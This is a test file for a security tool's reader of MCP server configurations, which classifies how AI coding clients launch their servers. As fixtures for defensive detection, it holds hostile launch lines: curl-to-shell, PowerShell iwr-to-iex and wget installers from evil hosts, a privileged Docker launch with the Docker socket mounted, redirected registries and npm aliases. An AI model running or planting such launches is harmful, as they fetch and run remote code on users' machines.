/**
 * The MCP client configuration reader over every recorded client example
 * (fixtures/mcp-clients: Claude Desktop, Claude Code, Cursor, VS Code, Windsurf, Codex, Zed,
 * Gemini CLI, opencode, Copilot CLI, Roo Code, Cline, Amazon Q Developer; the docs' fragments are
 * wrapped in braces, as a user pastes them into a file) and written odd cases: JSONC comments and
 * trailing commas, unknown keys, `~/.claude.json` projects, a 10 MB file, secrets in `env`,
 * `environment`, `envs` and `headers` (never kept), pinned and unpinned versions, opencode's array
 * `command`, Goose's and Continue's YAML.
 */
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { CLAUDE_STATE_MAX_BYTES, MCP_CONFIG_MAX_BYTES, mcpConfigCap, readMcpConfig, type ConfiguredServer } from '../../../src/audit/mcp/read-config.js';
import { LockfileError } from '../../../src/audit/types.js';
import { npmDefaultRegistry } from '../../../src/sources/npm/config.js';
import { REPO_ROOT } from '../../support/run-cli.js';

const CLIENTS = path.join(REPO_ROOT, 'fixtures', 'mcp-clients');
interface Example { file: string; client: string; syntax: string }
const EXAMPLES = JSON.parse(readFileSync(path.join(CLIENTS, 'examples.json'), 'utf8')) as Example[];

function readExample(file: string): ConfiguredServer[] {
  let text = readFileSync(path.join(CLIENTS, file), 'utf8');
  if (file.includes('.fragment.')) text = `{${text.trim().replace(/,$/, '')}}`;
  return readMcpConfig(text, file);
}

/** Each server as `key kind what [version|spec]`. */
function summary(servers: readonly ConfiguredServer[]): string[] {
  return servers.map(({ key, launch: l }) => {
    switch (l.kind) {
      case 'package':
        return [`${key} ${l.ecosystem} ${l.name} ${l.version ?? l.spec ?? '-'}`, ...l.extra.map((e) => `+ ${e.ecosystem} ${e.name} ${e.version ?? e.spec ?? '-'}`)].join(' ');
      case 'image':
        return `${key} image ${l.image}${l.widening.length > 0 ? ` ${l.widening.join(',')}` : ''}`;
      case 'remote':
        return `${key} remote ${l.origin}`;
      case 'local':
        return `${key} local ${l.command} ${l.file ?? '-'}`;
      case 'module':
        return `${key} module ${l.command} ${l.module}`;
      case 'nuget':
        return `${key} nuget ${l.identifier}`;
      case 'script':
        return `${key} script ${l.runner} ${l.origin}`;
      case 'fetched':
        return `${key} fetched ${l.code.map((c) => `${c.ecosystem}:${c.name ?? '?'} ${c.host ?? c.source}`).join(' ')}`;
      default:
        return `${key} unknown ${l.command}`;
    }
  });
}

describe('every recorded client example', () => {
  it('is listed in examples.json, which covers every client', () => {
    const onDisk = readdirSync(CLIENTS, { withFileTypes: true })
      .filter((d) => d.isDirectory())
      .flatMap((d) => readdirSync(path.join(CLIENTS, d.name)).map((f) => `${d.name}/${f}`))
      .sort();
    expect(EXAMPLES.map((e) => e.file).sort()).toEqual(onDisk);
    expect(new Set(EXAMPLES.map((e) => e.client))).toEqual(
      new Set(['claude-desktop', 'claude-code', 'cursor', 'vscode', 'windsurf', 'codex', 'zed', 'gemini-cli', 'opencode', 'copilot-cli', 'roo-code', 'cline', 'amazon-q', 'other']),
    );
  });

  // The two Zed fragments the docs print with `[` around named members are not JSON.
  const BROKEN = new Set(['zed/servers.git.L227.fragment.json', 'zed/servers.time.L105.fragment.json']);
  // A bare server map without any client's wrapper key: no client reads it as a configuration.
  const NO_SERVERS = new Set(['other/arxiv-mcp-server.codex-mcp.json']);

  it.each(EXAMPLES.map((e) => [e.file] as const))('%s', (file) => {
    if (BROKEN.has(file)) {
      expect(() => readExample(file)).toThrow(LockfileError);
      expect(() => readExample(file)).toThrow(/^zed\/servers\.\w+\.L\d+\.fragment\.json:2: invalid JSON: CommaExpected$/);
      return;
    }
    const servers = readExample(file);
    if (NO_SERVERS.has(file)) return expect(servers).toEqual([]);
    expect(servers.length).toBeGreaterThan(0);
    for (const s of servers) {
      expect(s.line).toBeGreaterThan(0);
      // Every real example names something nerq can place: nothing is "neither a command nor a URL".
      if (s.launch.kind === 'unknown') expect(s.launch.why).not.toBe('neither a command nor a URL');
    }
  });

  it.each([
    ['claude-desktop/playwright-mcp.README.L35.json', ['playwright npm @playwright/mcp latest']],
    ['claude-desktop/servers.everything.L37.json', ['everything npm @modelcontextprotocol/server-everything -']],
    ['claude-desktop/servers.time.L56.json', ['time pypi mcp-server-time -']],
    ['claude-desktop/servers.fetch.L201.json', ['fetch module python mcp_server_fetch']],
    ['claude-desktop/servers.git.L320.json', ['git local uv run /<path to mcp-servers>/mcp-servers/src/git']],
    ['claude-desktop/servers.git.L160.fragment.json', ['git module python mcp_server_git']],
    ['claude-desktop/arxiv-mcp-server.mcp.json', ['arxiv pypi arxiv-mcp-server -']],
    ['claude-desktop/servers.filesystem.L221.json', ['filesystem image mcp/filesystem']],
    ['claude-code/github-mcp-server.install-claude.L237.json', ['github remote https://api.githubcopilot.com']],
    ['codex/playwright-mcp.README.L152.toml', ['playwright npm @playwright/mcp latest']],
    ['codex/github-mcp-server.install-codex.L15.toml', ['github remote https://api.githubcopilot.com']],
    ['cursor/playwright-mcp.README.L789.json', ['playwright local url http://localhost:8931']],
    ['vscode/code-runner.README.L110.jsonc', ['mcp-server-code-runner npm mcp-server-code-runner latest']],
    ['vscode/code-runner.vscode-mcp.json', ['mcp-server-code-runner local node ${workspaceFolder}/dist/index.js']],
    ['vscode/github-mcp-server.README.L409.json', ['github local github-mcp-server /path/to/github-mcp-server']],
    ['vscode/vscode-docs.devcontainer.json', ['playwright npm @microsoft/mcp-server-playwright -']],
    ['windsurf/github-mcp-server.install-windsurf.L16.json', ['github remote https://api.githubcopilot.com']],
    ['zed/github-mcp-server.install-zed.L47.json', ['github image ghcr.io/github/github-mcp-server']],
    ['zed/servers.git.L242.fragment.json', ['mcp-server-git module python mcp_server_git']],
    ['gemini-cli/github-mcp-server.install-gemini-cli.L47.jsonc', ['github remote https://api.githubcopilot.com']],
    ['gemini-cli/github-mcp-server.install-gemini-cli.L95.jsonc', ['github image ghcr.io/github/github-mcp-server']],
    ['gemini-cli/github-mcp-server.install-gemini-cli.L123.jsonc', ['github local binary /path/to/binary']],
    ['gemini-cli/genai-toolbox.gemini-settings.json', ['oracle unknown go']],
    ['opencode/github-mcp-server.install-opencode.L19.json', ['github remote https://api.githubcopilot.com']],
    ['opencode/github-mcp-server.install-opencode.L67.json', ['github image ghcr.io/github/github-mcp-server']],
    ['opencode/github-mcp-server.install-opencode.L142.json', ['github remote https://api.githubcopilot.com']],
    ['copilot-cli/github-mcp-server.install-copilot-cli.L79.json', ['github remote https://api.githubcopilot.com']],
    ['copilot-cli/github-mcp-server.install-copilot-cli.L128.json', ['github image ghcr.io/github/github-mcp-server']],
    ['roo-code/github-mcp-server.install-roo-code.L17.json', ['github remote https://api.githubcopilot.com']],
    ['cline/github-mcp-server.install-cline.L10.json', ['github remote https://api.githubcopilot.com']],
    ['amazon-q/sample-one-click-generative-ai-solutions.amazonq-mcp.json', ['github npm @modelcontextprotocol/server-github -']],
    ['amazon-q/awslabs-mcp.amazonq-mcp.json', ['cost-explorer local uv run /Users/rfedayiz/Documents/Learning/bedrock-agent-workshop/cost-explorer-agent/mcp/src/cost-explorer-mcp-server/awslabs/cost_explorer_mcp_server/server.py']],
  ])('%s → %j', (file, expected) => {
    expect(summary(readExample(file))).toEqual(expected);
  });
});

describe('written odd cases', () => {
  it('JSONC: comments, trailing commas and unknown keys', () => {
    const text = `// user settings
{
  /* theme */ "theme": "dark",
  "mcpServers": {
    "a": { "command": "npx", "args": ["-y", "left-pad@1.3.0",], "disabled": false, "x-unknown": {"deep": [1,2,],}, },
    // a comment between servers
    "b": { "command": "pnpm", "args": ["dlx", "@scope/tool@^2"] },
    "c": { "command": "bunx", "args": ["some-mcp"] },
    "d": { "command": "uvx", "args": ["mcp-server-time==2025.1.1"] },
    "e": { "command": "uvx", "args": ["--from", "mcp-server-git@0.6.2", "mcp-server-git"] },
    "f": { "command": "pipx", "args": ["run", "--spec", "black>=24", "black"] },
    "g": { "command": "npm", "args": ["exec", "--yes", "--", "cowsay@1.6.0"] },
    "h": { "command": "dnx", "args": ["TimeMcpServer@1.0.8", "--yes"] },
    "i": { "command": "node", "args": ["/opt/x.js", "--token", "abc"] },
    "j": { "command": "docker", "args": ["run", "-i", "--rm", "--privileged", "-v", "/var/run/docker.sock:/var/run/docker.sock", "--network", "host", "ghcr.io/acme/mcp:1.2"] },
    "k": { "type": "http", "url": "https://user:pw@mcp.example.com/t/SECRET?key=SECRET#x" },
    "l": { "serverUrl": "http://insecure.example.net/sse" },
  },
  "trailing": true,
}`;
    expect(summary(readMcpConfig(text, 'settings.jsonc'))).toEqual([
      'a npm left-pad 1.3.0',
      'b npm @scope/tool ^2',
      'c npm some-mcp -',
      'd pypi mcp-server-time 2025.1.1',
      'e pypi mcp-server-git 0.6.2',
      'f pypi black >=24',
      'g npm cowsay 1.6.0',
      'h nuget TimeMcpServer@1.0.8',
      'i local node /opt/x.js',
      'j image ghcr.io/acme/mcp:1.2 privileged,docker-socket,host-network',
      'k remote https://mcp.example.com',
      'l remote http://insecure.example.net',
    ]);
    const servers = readMcpConfig(text, 'settings.jsonc');
    expect(servers.map((s) => s.line)).toEqual([5, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17]);
    expect(servers.find((s) => s.key === 'l')?.launch).toMatchObject({ insecure: true });
  });

  it('secrets in env and headers are never kept', () => {
    const secret = 'ghp_NeverPrintThis0123456789abcdefABCD';
    const text = JSON.stringify({
      mcpServers: {
        github: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-github'], env: { GITHUB_PERSONAL_ACCESS_TOKEN: secret } },
        remote: { url: `https://api.example.com/mcp?token=${secret}`, headers: { Authorization: `Bearer ${secret}` } },
        cli: { command: 'node', args: ['server.js', `--api-key=${secret}`] },
      },
    });
    const servers = readMcpConfig(text, '.mcp.json');
    expect(servers).toHaveLength(3);
    expect(JSON.stringify(servers)).not.toContain(secret);
    expect(JSON.stringify(servers)).not.toContain('NeverPrint');
  });

  it('~/.claude.json: top-level servers and each project’s, with the project as scope', () => {
    const text = JSON.stringify({
      numStartups: 12,
      mcpServers: { top: { command: 'npx', args: ['-y', 'top-mcp@1.0.0'] } },
      projects: {
        '/home/u/app': { allowedTools: [], mcpServers: { p1: { command: 'uvx', args: ['proj-mcp'] } } },
        '/home/u/empty': { allowedTools: [] },
      },
    });
    const servers = readMcpConfig(text, '.claude.json');
    expect(servers.map((s) => [s.key, s.scope])).toEqual([
      ['top', null],
      ['p1', '/home/u/app'],
    ]);
  });

  describe("Claude Code's .claude.json: its history and state are streamed past, only its server maps read", () => {
    /** The 1-based line of the first `needle` in `text`. */
    const lineOf = (text: string, needle: string) => text.slice(0, text.indexOf(needle)).split('\n').length;
    const history = (n: number) => Array.from({ length: n }, (_, i) => ({ display: `explain why test ${i} fails`, pastedContents: { '1': { id: 1, type: 'text', content: 'at Object.<anonymous> (src/x.ts:1:1)\n'.repeat(8) } } }));

    it('a file of more than 1 MiB: its servers, at their lines, with the project as scope; keys other clients use are not Claude Code’s', () => {
      const text = JSON.stringify({
        numStartups: 412,
        projects: {
          '/home/u/old': { allowedTools: [], history: history(2000), mcpServers: {} },
          '/home/u/app': { history: history(2000), mcpServers: { p1: { command: 'uvx', args: ['proj-mcp'], env: { KEY: 'sk-never' } } } },
        },
        mcpServers: { top: { command: 'npx', args: ['-y', 'top-mcp@1.0.0'] } },
        servers: { vscode: { command: 'npx', args: ['-y', 'not-claude'] } },
        cachedChangelog: '# Changelog\n'.repeat(20_000),
      }, null, 2);
      expect(text.length).toBeGreaterThan(MCP_CONFIG_MAX_BYTES);
      const servers = readMcpConfig(text, '~/.claude.json');
      expect(servers.map((s) => [s.key, s.scope, s.line])).toEqual([
        ['top', null, lineOf(text, '    "top": {')],
        ['p1', '/home/u/app', lineOf(text, '        "p1": {')],
      ]);
      expect(servers.map((s) => s.launch)).toMatchObject([{ kind: 'package', name: 'top-mcp', version: '1.0.0' }, { kind: 'package', name: 'proj-mcp' }]);
      expect(JSON.stringify(servers)).not.toContain('sk-never');
    });

    it('of a key written twice the last counts, as Claude Code reads it; mcpServers elsewhere in the tree is not read', () => {
      const text = `{
  "mcpServers": { "first": { "command": "node", "args": ["/opt/a.js"] } },
  "projects": { "/old": { "mcpServers": { "gone": { "command": "node", "args": ["/opt/g.js"] } } } },
  "projects": {
    "/p": { "mcpServers": { "hidden": { "command": "node", "args": ["/opt/h.js"] } } },
    "/p": { "history": [{ "mcpServers": { "inHistory": { "command": "node", "args": ["/opt/i.js"] } } }], "mcpServers": { "shown": { "command": "node", "args": ["/opt/s.js"] } } },
    "/q": { "mcpServers": { "q1": { "command": "node", "args": ["/opt/q.js"] } }, "mcpServers": null }
  },
  "mcpServers": { "last": { "command": "node", "args": ["/opt/l.js"] } },
  "other": { "mcpServers": { "nested": { "command": "node", "args": ["/opt/n.js"] } } }
}`;
      expect(readMcpConfig(text, '.claude.json').map((s) => [s.key, s.scope, s.line])).toEqual([
        ['last', null, 9],
        ['shown', '/p', 6],
      ]);
    });

    it('is checked whole: a malformed or non-object file is refused with its line, a deep nest in one line, never a crash', () => {
      const pad = JSON.stringify({ history: history(3000) }, null, 2).slice(0, -2);
      const broken = `${pad},\n  "mcpServers": { "a": }\n}`;
      expect(() => readMcpConfig(broken, '.claude.json')).toThrow(new LockfileError('.claude.json', broken.split('\n').length - 1, 'invalid JSON: ValueExpected'));
      expect(() => readMcpConfig('[]', '.claude.json')).toThrow(/^\.claude\.json:1: expected a JSON object$/);
      expect(() => readMcpConfig('', '.claude.json')).toThrow(/^\.claude\.json:1: invalid JSON: /);
      for (const file of ['.claude.json', '.mcp.json']) {
        expect(() => readMcpConfig(`{"history": ${'['.repeat(500_000)}`, file)).toThrow(new LockfileError(file, null, 'nested too deeply, not read'));
      }
    });

    it('its cap is 128 MiB; every other file’s stays 1 MiB', () => {
      expect([mcpConfigCap('/home/u/.claude.json'), mcpConfigCap('~/.claude.json'), mcpConfigCap('.mcp.json'), mcpConfigCap('/home/u/.claude.json.bak')]).toEqual([CLAUDE_STATE_MAX_BYTES, CLAUDE_STATE_MAX_BYTES, MCP_CONFIG_MAX_BYTES, MCP_CONFIG_MAX_BYTES]);
      expect(CLAUDE_STATE_MAX_BYTES).toBe(128 * 1024 * 1024);
    });
  });

  it('a file over the cap is refused before it is parsed, in one line', () => {
    const big = `{"mcpServers": {}, "pad": "${'x'.repeat(10 * 1024 * 1024)}"}`;
    expect(big.length).toBeGreaterThan(MCP_CONFIG_MAX_BYTES);
    expect(() => readMcpConfig(big, 'huge.json')).toThrow(/^huge\.json: larger than 1 MiB, not read$/);
  });

  it('not JSON, not an object, bad TOML: one line naming the file and line', () => {
    expect(() => readMcpConfig('{"mcpServers": {', 'a.json')).toThrow(/^a\.json:1: invalid JSON: /);
    expect(() => readMcpConfig('[1, 2]', 'b.json')).toThrow(/^b\.json:1: expected a JSON object$/);
    expect(() => readMcpConfig('[mcp_servers.x\ncommand = 1', 'config.toml')).toThrow(/^config\.toml:1: invalid TOML/);
  });

  it('odd values are data: a numeric command, args that are not strings, a server that is not an object', () => {
    const text = JSON.stringify({ mcpServers: { a: { command: 42 }, b: { command: 'npx', args: [1, null, '-y', 'ok-pkg'] }, c: 'npx x', d: null } });
    expect(summary(readMcpConfig(text, 'x.json'))).toEqual(['a unknown ', 'b npm ok-pkg -', 'c unknown ', 'd unknown ']);
  });

  it('launches that install more than one package, or code no registry vouches for, say so', () => {
    const servers = {
      twoPackages: { command: 'npx', args: ['-y', '-p', 'good-mcp@1.0.0', '--package=helper-lib@^2', 'good-mcp'] },
      withExtra: { command: 'uvx', args: ['--with', 'pluginpkg,other==1.2', 'mcp-server-time'] },
      github: { command: 'npx', args: ['-y', 'github:evil/mcp-server'] },
      shorthand: { command: 'npx', args: ['-y', 'evil/mcp-server#main'] },
      tarball: { command: 'npx', args: ['https://user:tok@cdn.evil.example/x.tgz?sig=1'] },
      aliasGit: { command: 'npx', args: ['-y', 'good-mcp@git+https://gitlab.example/g/good.git'] },
      uvGit: { command: 'uvx', args: ['--from', 'git+https://github.com/acme/mcp-tool', 'mcp-tool'] },
      uvPep508: { command: 'uvx', args: ['--from', 'mcp-tool @ git+https://github.com/acme/mcp-tool@v1', 'mcp-tool'] },
      pipxUrl: { command: 'pipx', args: ['run', '--spec', 'https://files.example/tool-1.0.tar.gz', 'tool'] },
      npmRegistry: { command: 'npx', args: ['-y', '--registry', 'https://npm.evil.example/', '@modelcontextprotocol/server-filesystem'] },
      npmPublic: { command: 'npx', args: ['-y', `--registry=${npmDefaultRegistry()}`, 'left-pad'] },
      npmToPypi: { command: 'npx', args: ['-y', '--registry=https://pypi.org/simple', 'left-pad'] },
      uvPublic: { command: 'uvx', args: ['--index-url', 'https://pypi.org/simple/', 'mcp-server-fetch'] },
      scopedRegistry: { command: 'npm', args: ['exec', '--@acme:registry=https://npm.evil.example', '--', '@acme/mcp'] },
      uvIndex: { command: 'uvx', args: ['--index-url', 'https://pypi.evil.example/simple', 'mcp-server-fetch'] },
      uvIndexShort: { command: 'uvx', args: ['-i', 'https://pypi.evil.example/simple', 'mcp-server-fetch'] },
      envRegistry: { command: 'npx', args: ['-y', 'some-mcp'], env: { NPM_CONFIG_REGISTRY: 'https://secret-token@npm.evil.example' } },
      envIndex: { command: 'uvx', args: ['some-py-mcp'], env: { UV_INDEX_URL: 'https://x' } },
      envOther: { command: 'npx', args: ['-y', 'some-mcp'], env: { API_KEY: 'k' } },
      denoNpm: { command: 'deno', args: ['run', '-A', '--config', 'deno.json', 'npm:@scope/deno-mcp@1.2.3'] },
      denoJsr: { command: 'deno', args: ['run', '-A', 'jsr:@scope/mcp'] },
      denoUrl: { command: 'deno', args: ['run', '--allow-net', 'https://deno.evil.example/mcp.ts'] },
      denoLocal: { command: 'deno', args: ['run', 'server.ts'] },
      curlPipe: { command: 'bash', args: ['-c', 'curl -fsSL https://get.evil.example/install.sh?t=abc | sh && mcp-server'] },
      shellPlain: { command: 'sh', args: ['-c', 'exec my-server --stdio'] },
      powershell: { command: 'powershell.exe', args: ['-Command', "iwr 'https://ps.evil.example/a.ps1' | iex"] },
      wget: { command: '/usr/bin/wget -qO- http://plain.evil.example/run.sh' },
    };
    const read = readMcpConfig(JSON.stringify({ mcpServers: servers }), '.mcp.json');
    expect(summary(read)).toEqual([
      'twoPackages npm good-mcp 1.0.0 + npm helper-lib ^2',
      'withExtra pypi mcp-server-time - + pypi pluginpkg - + pypi other 1.2',
      'github fetched npm:? github.com',
      'shorthand fetched npm:? github.com',
      'tarball fetched npm:? cdn.evil.example',
      'aliasGit fetched npm:good-mcp gitlab.example',
      'uvGit fetched pypi:? github.com',
      'uvPep508 fetched pypi:mcp-tool github.com',
      'pipxUrl fetched pypi:? files.example',
      'npmRegistry fetched npm:@modelcontextprotocol/server-filesystem npm.evil.example',
      'npmPublic npm left-pad -',
      'npmToPypi fetched npm:left-pad pypi.org',
      'uvPublic pypi mcp-server-fetch -',
      'scopedRegistry fetched npm:@acme/mcp npm.evil.example',
      'uvIndex fetched pypi:mcp-server-fetch pypi.evil.example',
      'uvIndexShort fetched pypi:mcp-server-fetch pypi.evil.example',
      'envRegistry fetched npm:some-mcp env NPM_CONFIG_REGISTRY',
      'envIndex fetched pypi:some-py-mcp env UV_INDEX_URL',
      'envOther npm some-mcp -',
      'denoNpm npm @scope/deno-mcp 1.2.3',
      'denoJsr unknown deno',
      'denoUrl script deno run https://deno.evil.example',
      'denoLocal local deno server.ts',
      'curlPipe script bash https://get.evil.example',
      'shellPlain unknown sh',
      'powershell script powershell https://ps.evil.example',
      'wget script wget http://plain.evil.example',
    ]);
    // Sources are kept without credentials or query strings; env values are never read.
    const text = JSON.stringify(read);
    expect(text).not.toMatch(/tok@|sig=1|t=abc|secret-token|"k"/);
  });

  it('an npm alias (`name@npm:real@1.0.0`) runs the real package; a package runner nerq cannot read runs a package all the same', () => {
    const text = JSON.stringify({
      mcpServers: {
        alias: { command: 'npx', args: ['-y', 'friendly@npm:evil-mcp@1.0.0'] },
        aliasRange: { command: 'npx', args: ['--yes', 'friendly@npm:@scope/evil@^2'] },
        aliasShell: { command: 'sh', args: ['-c', 'npx -y friendly@npm:evil-mcp@1.0.0'] },
        jsr: { command: 'deno', args: ['run', '-A', 'jsr:@scope/mcp'] },
        dlxFlag: { command: 'pnpm', args: ['--reg', 'https://x.example', 'dlx', 'some-mcp'] },
        badName: { command: 'npx', args: ['-y', 'Not A Name'] },
        pnpmScript: { command: 'pnpm', args: ['start'] },
        program: { command: 'my-mcp-server', args: ['--stdio'] },
      },
    });
    const servers = readMcpConfig(text, '.mcp.json');
    expect(summary(servers)).toEqual([
      'alias npm evil-mcp 1.0.0',
      'aliasRange npm @scope/evil ^2',
      'aliasShell npm evil-mcp 1.0.0',
      'jsr unknown deno',
      'dlxFlag unknown pnpm dlx',
      'badName unknown npx',
      'pnpmScript unknown pnpm dlx',
      'program unknown my-mcp-server',
    ]);
    expect(servers.map((s) => (s.launch.kind === 'unknown' ? s.launch.runsPackage === true : null))).toEqual([null, null, null, true, true, true, false, false]);
  });

  it('`uv run` runs the project on this machine, never a registry package; `uv tool run`, `pipx run` and `uvx pkg@latest` install one', () => {
    const text = JSON.stringify({
      mcpServers: {
        run: { command: 'uv', args: ['run', 'mcp-server-fetch'] },
        dir: { command: 'uv', args: ['--directory', '/srv/mcp', 'run', 'server.py'] },
        tool: { command: 'uv', args: ['tool', 'run', 'mcp-server-time==2025.1.1'] },
        pipx: { command: 'pipx', args: ['run', 'mcp-server-time'] },
        latest: { command: 'uvx', args: ['awslabs.aws-documentation-mcp-server@latest'] },
        latestExtra: { command: 'uvx', args: ['mcp-tool[cli]@LATEST'] },
      },
    });
    expect(summary(readMcpConfig(text, '.mcp.json'))).toEqual([
      'run local uv run mcp-server-fetch',
      'dir local uv run /srv/mcp',
      'tool pypi mcp-server-time 2025.1.1',
      'pipx pypi mcp-server-time -',
      'latest pypi awslabs-aws-documentation-mcp-server -',
      'latestExtra pypi mcp-tool -',
    ]);
  });

  it('hostile keys do not reach Object.prototype', () => {
    const text = '{"mcpServers": {"__proto__": {"command": "npx", "args": ["evil"]}, "constructor": {"url": "https://x.example"}}}';
    const servers = readMcpConfig(text, 'x.json');
    expect(servers.map((s) => s.key)).toEqual(['__proto__', 'constructor']);
    expect(({} as Record<string, unknown>).command).toBeUndefined();
  });

  it('a key written twice is read as the clients read it, the last one (JSON.parse and jsonc-parser keep the last): a harmless first map does not hide the servers that run', () => {
    const evil = '{"command": "npx", "args": ["-y", "evil-pkg"]}';
    const harmless = '{"fs": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem"]}}';
    for (const text of [
      `{"mcpServers": ${harmless}, "mcpServers": {"evil": ${evil}}}`,
      `{"servers": ${harmless}, "servers": {"evil": ${evil}}}`,
      `{"mcp": {"servers": ${harmless}}, "mcp": {"servers": {"evil": ${evil}}}}`,
      `{"mcp": {"servers": ${harmless}, "servers": {"evil": ${evil}}}}`,
      `{"projects": {"/p": {"mcpServers": ${harmless}, "mcpServers": {"evil": ${evil}}}}}`,
      `{"customizations": {"vscode": {"mcp": {"servers": {}}}}, "customizations": {"vscode": {"mcp": {"servers": {"evil": ${evil}}}}}}`,
      `{"mcp": {"evil": {"type": "local", "command": ["npx", "-y", "evil-pkg"]}}, "mcp": {"evil": {"type": "local", "command": ["npx", "-y", "evil-pkg"]}}}`,
    ]) {
      expect(summary(readMcpConfig(text, 'x.json')), text).toEqual(['evil npm evil-pkg -']);
      // The clients' own reading, for comparison.
      expect(JSON.stringify(JSON.parse(text)), text).toContain('evil-pkg');
    }
  });
});

describe('the other clients’ shapes', () => {
  const SECRET = 'ghp_ClientShapeSecret0123456789abcdefAB';

  it('Gemini CLI: `httpUrl`, `url` (SSE), `cwd`; its `mcp` settings block is no server', () => {
    const text = `{
  "mcp": { "allowed": ["git"], "excluded": ["x"], "serverCommand": "npx -y not-a-server" },
  "mcpServers": {
    "git": { "command": "uvx", "args": ["mcp-server-git==0.6.2"], "cwd": "./repo", "env": { "TOKEN": "${SECRET}" } },
    "stream": { "httpUrl": "https://mcp.example.com/mcp", "headers": { "Authorization": "Bearer ${SECRET}" }, "timeout": 5000 },
    "sse": { "url": "https://sse.example.com/sse" }
  }
}`;
    const servers = readMcpConfig(text, '.gemini/settings.json');
    expect(summary(servers)).toEqual(['git pypi mcp-server-git 0.6.2', 'stream remote https://mcp.example.com', 'sse remote https://sse.example.com']);
    expect(servers.map((s) => s.line)).toEqual([4, 5, 6]);
    expect(JSON.stringify(servers)).not.toContain('ClientShapeSecret');
  });

  it('opencode: `command` is one array (program, then its arguments); `environment` is read for its names only', () => {
    const text = `{
  "$schema": "https://opencode.ai/config.json",
  // comments are allowed in opencode.jsonc
  "mcp": {
    "pinned": { "type": "local", "command": ["npx", "-y", "@modelcontextprotocol/server-memory@2025.4.25"], "environment": { "API_KEY": "${SECRET}" } },
    "unpinned": { "type": "local", "command": ["npx", "-y", "@playwright/mcp@latest"], "enabled": true },
    "python": { "type": "local", "command": ["uvx", "mcp-server-fetch"] },
    "box": { "type": "local", "command": ["docker", "run", "-i", "--rm", "--privileged", "ghcr.io/acme/mcp:1.0"] },
    "redirected": { "type": "local", "command": ["npx", "-y", "some-mcp"], "environment": { "NPM_CONFIG_REGISTRY": "https://${SECRET}@npm.evil.example" } },
    "remote": { "type": "remote", "url": "https://mcp.example.com/mcp?key=${SECRET}", "headers": { "Authorization": "Bearer ${SECRET}" }, "oauth": false },
    "notAServer": { "enabled": true },
  },
}`;
    const servers = readMcpConfig(text, 'opencode.jsonc');
    expect(summary(servers)).toEqual([
      'pinned npm @modelcontextprotocol/server-memory 2025.4.25',
      'unpinned npm @playwright/mcp latest',
      'python pypi mcp-server-fetch -',
      'box image ghcr.io/acme/mcp:1.0 privileged',
      'redirected fetched npm:some-mcp env NPM_CONFIG_REGISTRY',
      'remote remote https://mcp.example.com',
    ]);
    expect(servers.map((s) => s.line)).toEqual([5, 6, 7, 8, 9, 10]);
    expect(JSON.stringify(servers)).not.toContain('ClientShapeSecret');
  });

  it('opencode: the same program and arguments are read from the array as from `command` + `args`', () => {
    const launches = [
      ['npx', '-y', '-p', 'a-mcp@1.0.0', '-p', 'b-lib@2.0.0', 'a-mcp'],
      ['cmd', '/c', 'npx', '-y', 'win-mcp@3.1.0'],
      ['uvx', '--from', 'git+https://github.com/acme/tool', 'tool'],
      ['node', '/opt/server.js', `--token=${SECRET}`],
    ];
    const asArray = readMcpConfig(JSON.stringify({ mcp: Object.fromEntries(launches.map((l, i) => [`s${i}`, { type: 'local', command: l }])) }), 'opencode.json');
    const asPair = readMcpConfig(JSON.stringify({ mcpServers: Object.fromEntries(launches.map(([c, ...a], i) => [`s${i}`, { command: c, args: a }])) }), '.mcp.json');
    expect(asArray.map((s) => s.launch)).toEqual(asPair.map((s) => s.launch));
    expect(summary(asArray)).toEqual(['s0 npm a-mcp 1.0.0 + npm b-lib 2.0.0', 's1 npm win-mcp 3.1.0', 's2 fetched pypi:? github.com', 's3 local node /opt/server.js']);
  });

  it('opencode: the newer `mcp.servers` form', () => {
    const text = JSON.stringify({ mcp: { servers: { mem: { type: 'local', command: ['bunx', 'mem-mcp@0.2.0'] } } } });
    expect(summary(readMcpConfig(text, 'opencode.json'))).toEqual(['mem npm mem-mcp 0.2.0']);
  });

  it('Copilot CLI, Kiro, Amazon Q, Cline, Roo Code, LM Studio: `mcpServers` with their own type names', () => {
    const text = JSON.stringify({
      mcpServers: {
        local: { type: 'local', command: 'npx', args: ['-y', '@azure/mcp@0.5.0', 'server', 'start'], tools: ['*'] },
        stdio: { type: 'stdio', command: 'uvx', args: ['awslabs.aws-documentation-mcp-server@latest'], disabled: false, autoApprove: [] },
        http: { type: 'http', url: 'https://api.githubcopilot.com/mcp/readonly', headers: { Authorization: `Bearer ${SECRET}` } },
        roo: { type: 'streamable-http', url: 'https://roo.example.com/mcp' },
        cline: { type: 'streamableHttp', url: 'https://cline.example.com/mcp', alwaysAllow: [] },
      },
    });
    const servers = readMcpConfig(text, 'mcp-config.json');
    expect(summary(servers)).toEqual([
      'local npm @azure/mcp 0.5.0',
      'stdio pypi awslabs-aws-documentation-mcp-server -',
      'http remote https://api.githubcopilot.com',
      'roo remote https://roo.example.com',
      'cline remote https://cline.example.com',
    ]);
    expect(JSON.stringify(servers)).not.toContain('ClientShapeSecret');
  });

  it('Goose (YAML): `extensions` with `cmd`, `args`, `envs`, `uri`; its built-in extensions are its own code', () => {
    const text = `GOOSE_PROVIDER: anthropic
extensions:
  developer:
    enabled: true
    type: builtin
    name: developer
  github:
    enabled: true
    type: stdio
    name: github
    cmd: npx
    args: [-y, "@modelcontextprotocol/server-github@2025.4.8"]
    envs:
      GITHUB_PERSONAL_ACCESS_TOKEN: ${SECRET}
    timeout: 300
  fetch:
    type: stdio
    cmd: uvx
    args:
      - mcp-server-fetch
  remote:
    type: streamable_http
    uri: https://mcp.example.com/mcp
    headers:
      Authorization: Bearer ${SECRET}
  old:
    type: sse
    uri: http://insecure.example.net/sse
  nested:
    enabled: false
    config:
      type: stdio
      cmd: docker
      args: [run, -i, --rm, ghcr.io/acme/mcp:2.0]
`;
    const servers = readMcpConfig(text, 'config.yaml');
    expect(summary(servers)).toEqual([
      'github npm @modelcontextprotocol/server-github 2025.4.8',
      'fetch pypi mcp-server-fetch -',
      'remote remote https://mcp.example.com',
      'old remote http://insecure.example.net',
      'nested image ghcr.io/acme/mcp:2.0',
    ]);
    expect(servers.map((s) => s.line)).toEqual([7, 16, 21, 26, 29]);
    expect(JSON.stringify(servers)).not.toContain('ClientShapeSecret');
  });

  it('Continue (YAML): an `mcpServers` list named by `name`', () => {
    const text = `name: my-config
version: 0.0.1
schema: v1
mcpServers:
  - name: SQLite
